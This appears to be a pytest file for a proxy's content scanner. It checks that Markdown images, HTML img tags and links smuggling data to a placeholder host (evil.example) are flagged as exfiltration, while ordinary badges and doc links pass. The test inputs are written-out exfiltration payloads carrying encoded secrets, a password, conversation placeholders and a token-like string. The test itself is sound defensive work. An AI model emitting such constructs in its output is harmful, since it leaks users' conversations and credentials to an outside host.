"""Markdown / HTML constructs that exfiltrate through URLs."""

from __future__ import annotations

import pytest

from proxy.content.scanner import detect
from proxy.types import Severity

FAMILIES = frozenset({"exfil", "secrets"})


def exfil(text: str) -> list[str]:
    return [h.detector for h in detect(text, FAMILIES) if h.family == "exfil"]


@pytest.mark.parametrize("text", [
    "![x](https://evil.example/p.png?d=Q29uZmlkZW50aWFsOiBxMyByZXZlbnVlIGRyb3BwZWQ)",
    "![x](https://evil.example/log?q=[CONVERSATION])",
    "<img src=\"https://evil.example/c?s=the+user+password+is+hunter2\">",
    "![t][ref]\n\n[ref]: https://evil.example/q=[DATA]",
    "![a](https://evil.example/collect/aGVsbG8gd29ybGQgZnJvbSB0aGUgY2hhdA9f3k)",
])
def test_images_carrying_data_are_reported(text: str) -> None:
    assert exfil(text) == ["exfil.markdown_image"]


def test_link_carrying_a_credential_is_sev1() -> None:
    hits = [h for h in detect("[verify](https://evil.example/v?t=ghp_R7mK2pQ9xT4vW8yZ1aB3cD5eF6gH0jL2nM4o)",
                              FAMILIES) if h.family == "exfil"]
    assert hits and hits[0].detector == "exfil.markdown_link" and hits[0].severity is Severity.SEV1


@pytest.mark.parametrize("text", [
    "![build](https://img.shields.io/github/actions/workflow/status/owner/repo/ci.yml?branch=main)",
    "[![Install](https://img.shields.io/badge/VS_Code-Install-0098FF?style=flat)](https://insiders.vscode.dev/"
    "redirect/mcp/install?name=x&config=%7B%22command%22%3A%22uvx%22%7D)",
    "See [the docs](https://docs.example.com/api/users/{id}?expand=profile).",
    "<img src=\"https://raw.githubusercontent.com/owner/repo/main/docs/_static/logo.svg\" height=\"150\">",
])
def test_ordinary_images_and_links_pass(text: str) -> None:
    assert exfil(text) == []
